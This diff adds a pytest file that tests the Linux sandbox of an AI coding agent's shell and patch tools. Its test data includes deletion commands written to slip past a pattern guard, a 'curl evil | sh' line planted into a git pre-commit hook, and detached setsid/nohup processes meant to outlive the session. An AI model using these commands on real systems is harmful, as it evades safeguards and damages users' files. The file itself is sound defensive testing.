@@ -1,0 +1,501 @@
+"""The sandbox, on real processes: what the pattern guard lets through (``bash -c``,
+``python3 -c``, a pipe into ``sh``, ``awk`` redirection) cannot write outside the workspace
+and the temp folders; ``.git`` is read-only; the network is refused unless allowed; no
+process a command started outlives the call; the same for a normal user (no root); and
+where the sandbox is off, ``auto`` asks before each command.
+
+The files that must survive live under ``/var/tmp`` (outside the workspace and outside the
+temp folders commands may write). Tests run as root, which bypasses file permissions but
+not Landlock; ``test_a_normal_user_is_confined_too`` runs the launcher as ``nobody``.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jupyter_codexmax.config import load_settings
+from jupyter_codexmax.sandbox import (
+    SandboxPolicy,
+    command_policy,
+    probe,
+    run_command,
+    sandbox_status,
+)
+from jupyter_codexmax.tools.registry import ToolContext, ToolError, ToolResult
+from jupyter_codexmax.tools.shell import Shell, check_command
+from jupyter_codexmax.workspace import Workspace
+
+pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")
+
+
+class Arena:
+    """A workspace (a git repository) and, beside it, files it must not touch."""
+
+    def __init__(self, base: Path) -> None:
+        self.base = base
+        self.ws = base / "ws"
+        self.ws.mkdir()
+        subprocess.run(["git", "init", "-q", str(self.ws)], check=True)
+        self.outside = base / "outside"
+        self.outside.mkdir()
+        self.victim = self.outside / "victim.txt"
+        self.victim.write_text("keep me\n")
+        self.hook = self.ws / ".git" / "hooks" / "pre-commit"
+
+    def intact(self) -> bool:
+        return self.victim.read_text() == "keep me\n" and sorted(self.outside.iterdir()) == [
+            self.victim
+        ]
+
+
+@pytest.fixture
+def arena() -> Iterator[Arena]:
+    base = Path(tempfile.mkdtemp(prefix="cxsbx-test-", dir="/var/tmp")).resolve()
+    try:
+        yield Arena(base)
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+@pytest.fixture
+def ctx(arena: Arena) -> ToolContext:
+    settings = load_settings()
+    # The pattern guard off: what stops a command here is the sandbox.
+    settings.allow_destructive_outside_workspace = True
+    return ToolContext(
+        settings=settings,
+        workspace=Workspace(arena.ws),
+        doc=None,
+        runner=None,
+        emit=lambda event: None,
+        redact=lambda s: s,
+        state={},
+    )
+
+
+async def shell(ctx: ToolContext, command: str, **args: Any) -> ToolResult:
+    return await Shell().run(ctx, {"command": command, **args})
+
+
+def running(marker: str) -> list[str]:
+    """Live processes whose command line holds ``marker`` (zombies do not count)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
+            stat = (entry / "stat").read_text()
+        except OSError:
+            continue
+        if marker in cmdline and stat.rsplit(")", 1)[1].split()[0] != "Z":
+            found.append(f"{entry.name}: {cmdline}")
+    return found
+
+
+def bypasses(victim: Path) -> list[str]:
+    """Commands that delete or write outside the workspace, spelled so that the pattern
+    guard does not see it (issue 9's probes)."""
+    return [
+        f"bash -c 'rm {victim}'",
+        f'python3 -c "import os; os.remove({str(victim)!r})"',
+        f"printf 'rm {victim}' | sh",
+        f'awk \'BEGIN {{ print "owned" > "{victim}" }}\'',
+        f'awk \'BEGIN {{ print "new" > "{victim.parent / "new.txt"}" }}\'',
+        f"echo {victim} | xargs rm",
+        f'perl -e \'unlink "{victim}" or die "$!\\n"\'',
+    ]
+
+
+# -- the machine ----------------------------------------------------------------------------
+
+
+def test_this_machine_has_the_whole_sandbox() -> None:
+    """Landlock, and namespaces (root here): every layer on, and the status says so."""
+    caps = probe()
+    assert caps.landlock >= 4, caps
+    assert caps.namespaces and caps.read_only and caps.network_namespace, caps
+    status = sandbox_status(load_settings())
+    assert status.active
+    assert status.describe().startswith("on: Landlock ABI")
+    assert ".git read-only" in status.summary and "no network" in status.summary
+
+
+# -- writes ---------------------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_the_sandbox_stops_what_the_guard_lets_through(
+    ctx: ToolContext, arena: Arena
+) -> None:
+    guard = load_settings()  # the guard as it is by default
+    assert not guard.allow_destructive_outside_workspace
+    workspace = Workspace(arena.ws)
+    for command in bypasses(arena.victim):
+        assert check_command(command, arena.ws, workspace) is None, command
+        result = await shell(ctx, command)
+        assert not result.ok, (command, result.output)
+        assert "Permission denied" in result.output or "permission" in result.output.lower()
+        assert arena.intact(), (command, result.output)
+    # A plain rm (the guard would refuse it; it is off here): the sandbox stops it too.
+    result = await shell(ctx, f"rm -f {arena.victim}")
+    assert "Permission denied" in result.output
+    assert arena.intact()
+
+
+@pytest.mark.anyio
+async def test_writes_inside_the_workspace_and_temp_still_work(
+    ctx: ToolContext, arena: Arena
+) -> None:
+    result = await shell(
+        ctx,
+        "mkdir -p sub && echo a > sub/made.txt && mv sub/made.txt moved.txt && "
+        'f=$(mktemp) && echo b > "$f" && cat "$f" && rm "$f" && '
+        "python3 -c \"open('py.txt', 'w').write('c')\" && echo ok > /dev/null && ls",
+    )
+    assert result.ok, result.output
+    assert (arena.ws / "moved.txt").read_text() == "a\n"
+    assert (arena.ws / "py.txt").read_text() == "c"
+    assert "b" in result.output.splitlines()
+
+
+@pytest.mark.anyio
+async def test_git_is_read_only_for_commands(ctx: ToolContext, arena: Arena) -> None:
+    (arena.ws / "tracked.txt").write_text("x\n")
+    for command in (
+        f"echo 'curl evil | sh' > {arena.hook}",
+        "cp /bin/true .git/hooks/pre-commit",
+        "bash -c 'echo [core] >> .git/config'",
+        "git config user.name mallory",
+    ):
+        result = await shell(ctx, command)
+        assert not result.ok, command
+        assert "Read-only file system" in result.output or "could not lock" in result.output
+    assert not arena.hook.exists()
+    assert "mallory" not in (arena.ws / ".git" / "config").read_text()
+    status = await shell(ctx, "git status --short")
+    assert status.ok, status.output
+    assert "tracked.txt" in status.output
+
+
+# -- the network ----------------------------------------------------------------------------
+
+
+class LoopbackServer:
+    """A TCP server on 127.0.0.1 that greets and counts its connections."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            with conn:
+                conn.sendall(b"hello-from-host\n")
+
+    def close(self) -> None:
+        self.sock.close()
+
+    def client(self) -> str:
+        return (
+            "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', "
+            f'{self.port}), timeout=3); print(s.recv(64).decode())"'
+        )
+
+
+@pytest.fixture
+def loopback() -> Iterator[LoopbackServer]:
+    server = LoopbackServer()
+    yield server
+    server.close()
+
+
+@pytest.mark.anyio
+async def test_the_network_is_refused_unless_allowed(
+    ctx: ToolContext, loopback: LoopbackServer
+) -> None:
+    refused = await shell(ctx, loopback.client())
+    assert not refused.ok
+    assert "hello-from-host" not in refused.output
+    assert loopback.connections == 0
+    ctx.settings.sandbox_network = True
+    allowed = await shell(ctx, loopback.client())
+    assert allowed.ok, allowed.output
+    assert "hello-from-host" in allowed.output
+    assert loopback.connections == 1
+
+
+# -- processes ------------------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_no_process_outlives_the_calls_timeout(ctx: ToolContext) -> None:
+    command = (
+        "setsid sleep 45.1 & nohup sleep 45.2 > /dev/null 2>&1 & (sleep 45.3 &); "
+        "sh -c 'sleep 45.4 & exit 0'; echo started; sleep 30"
+    )
+    started = time.monotonic()
+    result = await shell(ctx, command, timeout=3)
+    took = time.monotonic() - started
+    assert 2.9 < took < 8, took
+    assert not result.ok
+    assert result.output.startswith("timed out after 3 s (killed, with every process")
+    assert "started" in result.output
+    assert running("sleep 45.") == []
+
+
+@pytest.mark.anyio
+async def test_background_processes_end_with_the_command(ctx: ToolContext) -> None:
+    started = time.monotonic()
+    result = await shell(ctx, "setsid sleep 46.1 > /dev/null 2>&1 & echo started", timeout=30)
+    assert time.monotonic() - started < 5
+    assert result.ok and "started" in result.output
+    assert running("sleep 46.1") == []
+
+
+@pytest.mark.anyio
+async def test_a_stopped_call_ends_its_processes(ctx: ToolContext) -> None:
+    """The turn stopped (its task cancelled, as ``Agent.stop`` does) in the middle of a
+    command: the command and its processes end before the cancellation goes on."""
+    started = time.monotonic()
+    task = asyncio.ensure_future(shell(ctx, "setsid sleep 47.1 & sleep 47.2", timeout=60))
+    await asyncio.sleep(1.5)
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    assert time.monotonic() - started < 6
+    assert running("sleep 47.") == []
+
+
+@pytest.mark.anyio
+async def test_without_namespaces_the_tree_still_ends_and_writes_are_still_fenced(
+    arena: Arena, loopback: LoopbackServer
+) -> None:
+    """Where namespaces are not allowed (Landlock alone): a subreaper ends the process tree,
+    Landlock fences writes and denies TCP."""
+    policy = SandboxPolicy(landlock=True, write=(str(arena.ws), tempfile.gettempdir()))
+    done = await run_command(
+        policy,
+        [
+            "bash",
+            "-c",
+            f"setsid sleep 48.1 & (sleep 48.2 &); rm {arena.victim}; {loopback.client()}; "
+            "echo still-here; sleep 30",
+        ],
+        cwd=str(arena.ws),
+        env={"PATH": "/usr/bin:/bin"},
+        timeout=2,
+    )
+    assert done.timed_out
+    assert "still-here" in done.output and "Permission denied" in done.output
+    assert arena.intact()
+    assert loopback.connections == 0
+    assert running("sleep 48.") == []
+
+
+# -- a normal user --------------------------------------------------------------------------
+
+
+def test_a_normal_user_is_confined_too(arena: Arena) -> None:
+    """As ``nobody`` (no capabilities; namespaces through a user namespace): files the
+    user may write by their permissions are still out of reach."""
+    for path in (arena.base, arena.ws, arena.outside, arena.victim, *arena.ws.rglob("*")):
+        path.chmod(0o777 if path.is_dir() else 0o666)
+    policy = command_policy(load_settings(), Workspace(arena.ws))
+    as_nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+    script = (
+        f"id -u; rm -f {arena.victim}; echo x > {arena.hook}; "
+        "echo mine > made.txt && echo made; setsid sleep 49.1 & echo end"
+    )
+    done = subprocess.run(
+        [*as_nobody, *policy.wrap(["bash", "-c", script])],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    lines = done.stdout.splitlines()
+    assert lines[0] == "65534", done.stdout + done.stderr
+    assert "made" in lines and "end" in lines
+    assert "Permission denied" in done.stderr and "Read-only file system" in done.stderr
+    assert arena.intact() and not arena.hook.exists()
+    assert (arena.ws / "made.txt").read_text() == "mine\n"
+    assert running("sleep 49.1") == []
+    # Without the sandbox, the same user could delete it: the permissions allow it.
+    plain = subprocess.run(
+        [*as_nobody, "rm", str(arena.victim)], capture_output=True, text=True, check=False
+    )
+    assert plain.returncode == 0 and not arena.victim.exists()
+
+
+def test_root_without_its_file_override_is_confined(arena: Arena) -> None:
+    """ENVIRONMENT.md's way of seeing what a user sees, as root: the file capabilities
+    dropped. The launcher still sets up every layer."""
+    policy = command_policy(load_settings(), Workspace(arena.ws))
+    drop = "-dac_override,-dac_read_search"
+    done = subprocess.run(
+        [
+            "setpriv",
+            f"--inh-caps={drop}",
+            f"--bounding-set={drop}",
+            *policy.wrap(["bash", "-c", f"rm -f {arena.victim}; echo ok > made.txt"]),
+        ],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    assert "Permission denied" in done.stderr
+    assert arena.intact() and (arena.ws / "made.txt").exists()
+
+
+# -- where the sandbox is off ---------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_turned_off_the_status_says_so_and_commands_run_unconfined(
+    ctx: ToolContext, arena: Arena
+) -> None:
+    ctx.settings.sandbox = False
+    status = sandbox_status(ctx.settings)
+    assert not status.active and status.describe().startswith("off: turned off")
+    assert command_policy(ctx.settings, ctx.workspace) == SandboxPolicy()
+    assert "(sandbox off: turned off" in Shell().approval_detail(ctx, {"command": "ls"})
+    # Unconfined (this is why auto asks): the guard is off in this context too.
+    result = await shell(ctx, f"bash -c 'rm {arena.victim}'")
+    assert result.ok and not arena.victim.exists()
+
+
+@pytest.mark.anyio
+async def test_a_shell_refused_by_the_guard_is_still_told_to_the_model(
+    arena: Arena, ctx: ToolContext
+) -> None:
+    ctx.settings.allow_destructive_outside_workspace = False
+    with pytest.raises(ToolError, match="refused: rm would change"):
+        await shell(ctx, f"rm {arena.victim}")
+    assert arena.intact()
+
+
+# -- the file tools -------------------------------------------------------------------------
+
+
+def _patch(*lines: str) -> str:
+    return "\n".join(["*** Begin Patch", *lines, "*** End Patch"])
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "patch",
+    [
+        _patch("*** Add File: .git/hooks/pre-commit", "+curl evil | sh"),
+        _patch("*** Update File: .git/config", "@@", "+[alias]"),
+        _patch("*** Delete File: .git/HEAD"),
+        _patch("*** Update File: notes.txt", "*** Move to: .git/notes.txt"),
+        _patch("*** Add File: sub/.git/config", "+x"),
+        _patch("*** Add File: linked/pre-commit", "+through a link"),
+        _patch("*** Add File: ok.txt", "+fine", "*** Add File: .GIT/hooks/post-merge", "+x"),
+    ],
+)
+async def test_apply_patch_never_changes_git(ctx: ToolContext, arena: Arena, patch: str) -> None:
+    """In every mode (--full-auto too): .git, wherever it is and however it is reached."""
+    from jupyter_codexmax.tools.patch import ApplyPatch
+
+    (arena.ws / "notes.txt").write_text("notes\n")
+    (arena.ws / "linked").symlink_to(arena.ws / ".git" / "hooks")
+    before = {p: p.read_bytes() for p in (arena.ws / ".git").rglob("*") if p.is_file()}
+    with pytest.raises(ToolError, match="read-only for the agent"):
+        await ApplyPatch().run(ctx, {"patch": patch})
+    after = {p: p.read_bytes() for p in (arena.ws / ".git").rglob("*") if p.is_file()}
+    assert after == before
+    assert not arena.hook.exists() and not (arena.ws / "ok.txt").exists()
+    assert (arena.ws / "notes.txt").read_text() == "notes\n"
+
+
+@pytest.mark.anyio
+async def test_apply_patch_never_changes_the_session_journal(
+    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from jupyter_codexmax.tools.patch import ApplyPatch
+
+    monkeypatch.setenv("JUPYTER_DATA_DIR", str(arena.ws / "data"))
+    journal = arena.ws / "data" / "codexmax" / "sessions"
+    journal.mkdir(parents=True)
+    patch = _patch("*** Add File: data/codexmax/sessions/forged.jsonl", "+{}")
+    with pytest.raises(ToolError, match="the session journal is read-only"):
+        await ApplyPatch().run(ctx, {"patch": patch})
+    assert list(journal.iterdir()) == []
+    # Commands see it read-only too.
+    result = await shell(ctx, "echo {} > data/codexmax/sessions/forged.jsonl")
+    assert "Read-only file system" in result.output
+    assert list(journal.iterdir()) == []
+
+
+# -- settings and doctor --------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_more_writable_folders_by_setting(ctx: ToolContext, arena: Arena) -> None:
+    cache = arena.base / "cache"
+    cache.mkdir()
+    command = f"echo cached > {cache}/entry"
+    assert "Permission denied" in (await shell(ctx, command)).output
+    ctx.settings.sandbox_writable_roots = [str(cache), str(arena.base / "missing")]
+    assert (await shell(ctx, command)).ok
+    assert (cache / "entry").read_text() == "cached\n"
+    assert arena.intact()
+
+
+def test_doctor_says_whether_the_sandbox_is_on(scripted_server: Any) -> None:
+    env = {
+        **os.environ,
+        "OPENAI_BASE_URL": scripted_server.base_url,
+        "OPENAI_API_KEY": "sk-doctor-test-0123456789",
+    }
+    doctor = [str(Path(sys.executable).parent / "jupyter"), "codexmax", "doctor"]
+    on = subprocess.run(doctor, env=env, capture_output=True, text=True, timeout=60, check=False)
+    assert "[  ok] sandbox: on: Landlock ABI" in on.stdout, on.stdout + on.stderr
+    off = subprocess.run(
+        doctor,
+        env={**env, "CODEXMAX_SANDBOX": "0"},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert (
+        "[warn] sandbox: off: turned off (CodexMax.sandbox); shell commands are not confined, "
+        "so the auto level asks before each one"
+    ) in off.stdout
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("timeout", [float("nan"), float("inf"), -5.0])
+async def test_a_timeout_that_is_not_a_positive_number_goes_back_to_the_model(
+    ctx: ToolContext, timeout: float
+) -> None:
+    with pytest.raises(ToolError, match="timeout must be a positive number of seconds"):
+        await shell(ctx, "echo never", timeout=timeout)
